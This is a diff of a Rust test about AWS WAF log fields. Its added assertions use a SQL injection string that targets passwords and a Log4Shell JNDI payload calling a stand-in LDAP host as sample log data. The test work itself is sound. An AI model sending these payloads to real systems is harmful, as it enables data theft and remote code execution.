@@ -148,6 +148,18 @@ fn what_became_of_a_request_is_news_in_every_log_of_amazon() {
     let details = |name: &str| of_log(&format!("terminatingRuleMatchDetails/0/{name}"));
     assert_fold(&matched, &details("matchedData/2"), "1=1", "2=2");
     assert_differ(&matched, &details("conditionType"), "SQL_INJECTION", "XSS");
+    assert_differ(
+        &matched,
+        &details("matchedData/2"),
+        "1=1",
+        "union select password from users",
+    );
+    assert_differ(
+        &matched,
+        &details("matchedData/0"),
+        "10",
+        "${jndi:ldap://203.0.113.9/a}",
+    );
     let audited = called(
         "aws",
         json!({"source": "cloudwatchlogs", "kind": "Event", "auditID": "x", "verb": "create", "sourceIPs": ["203.0.113.9"], "objectRef": {"resource": "pods", "name": "x", "resourceVersion": "1"}}),
